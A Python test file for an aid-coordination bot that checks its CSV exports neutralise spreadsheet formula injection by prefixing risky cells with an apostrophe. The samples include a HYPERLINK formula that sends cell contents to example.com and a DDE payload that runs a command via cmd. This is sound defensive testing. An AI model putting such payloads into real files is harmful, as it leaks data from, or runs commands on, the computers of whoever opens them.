"""Exported files open in a spreadsheet as text: no cell runs as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from bot.domain.aid.export import HXL_TAGS
from bot.domain.spreadsheet import original_text, safe_cell
from tests.harness import BotHarness
from tests.test_aid import brovary_with_partners

HOSTILE_DESCRIPTION = '=HYPERLINK("http://example.com/?"&A1;"Details")'
HOSTILE_FACILITY = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+380 44 000 00 00", "'+380 44 000 00 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Pumps = 4", "Pumps = 4"),
        ("#item+name", "#item+name"),
        ("", ""),
    ],
)
def test_formula_like_cells_become_text_and_read_back_unchanged(cell: str, written: str) -> None:
    assert safe_cell(cell) == written
    assert original_text(written) == cell


async def test_aid_export_with_hostile_cells_opens_as_text(bot: BotHarness) -> None:
    official, *_ = await brovary_with_partners(bot, "en")
    await bot.send(official, "/aid")
    await bot.press(official, "Log aid")
    await bot.press(official, "Jena")
    await bot.press(official, "Done")
    await bot.press(official, "Medical equipment")
    await bot.press(official, "Health and hospitals")
    await bot.send(official, HOSTILE_DESCRIPTION)
    await bot.send(official, "1000 EUR")
    await bot.press(official, "Received")
    await bot.send(official, "15.11.2022")
    await bot.press(official, "Edit")
    await bot.press(official, "Facility")
    await bot.send(official, HOSTILE_FACILITY)
    assert "Saved as record №1" in (await bot.press(official, "Confirm")).text
    await bot.send(official, "/aid")
    reply = await bot.press(official, "Export CSV")
    document = next(m for m in reply.messages if m.document)
    data = bot.api.files[document.document["file_id"]]
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(rows[1]) == HXL_TAGS
    record = dict(zip(rows[1], rows[2], strict=True))
    assert record["#item+name"] == "'" + HOSTILE_DESCRIPTION
    assert record["#loc+name"] == "'" + HOSTILE_FACILITY
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


async def test_offers_export_with_hostile_cells_opens_as_text_and_imports_back(
    bot: BotHarness,
) -> None:
    operator = bot.operator()
    await bot.send(operator, "/start")
    hostile = "type,municipality,country,sectors,description,ref\n" + (
        'offer,Jena,DE,water,"=HYPERLINK(""http://example.com"")",h-1\n'
        "offer,Gera,DE,water,+49 365 838 0 and pumps,h-2\n"
    )
    reply = await bot.deliver(bot.api.send_document(operator, hostile.encode(), "offers.csv"))
    assert "2 added" in reply.text
    reply = await bot.send(operator, "/export_offers")
    document = reply.last.document
    assert document is not None
    data = bot.api.files[document["file_id"]]
    rows = {r["ref"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}
    assert rows["h-1"]["description"] == '\'=HYPERLINK("http://example.com")'
    assert rows["h-2"]["description"] == "'+49 365 838 0 and pumps"
    # The exported file, imported again, keeps the descriptions as they were typed.
    reply = await bot.deliver(bot.api.send_document(operator, data, "offers.csv"))
    assert "0 added, 2 updated" in reply.text
    descriptions = sorted(post.description for post in await bot.repos.posts.all())
    assert descriptions == ["+49 365 838 0 and pumps", '=HYPERLINK("http://example.com")']
